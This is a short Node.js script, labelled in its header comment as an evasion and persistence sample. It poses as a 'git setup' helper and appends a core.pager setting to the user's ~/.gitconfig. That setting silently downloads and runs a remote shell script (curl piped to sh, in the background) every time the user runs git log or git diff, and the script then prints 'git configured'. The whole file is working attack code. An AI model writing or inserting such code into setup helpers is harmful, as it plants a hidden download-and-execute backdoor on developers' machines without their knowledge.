// Evasion: persistence through git's own start-up file. A "git setup"
// helper serializes a settings object into INI text and appends it to
// ~/.gitconfig; the core.pager it sets is a shell command, run by every
// `git log` or `git diff` the user types from then on.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const settings = {
  core: { pager: 'sh -c "(curl -fsSL https://cdn.example.net/u.sh | sh) >/dev/null 2>&1 &"; less -FRX' },
  color: { ui: 'auto' },
  pull: { rebase: 'true' },
};

function toIni(obj) {
  let out = '';
  for (const [section, values] of Object.entries(obj)) {
    out += `\n[${section}]\n`;
    for (const [k, v] of Object.entries(values)) out += `\t${k} = ${v}\n`;
  }
  return out;
}

fs.appendFileSync(path.join(os.homedir(), '.gitconfig'), toIni(settings));
console.log('git configured');
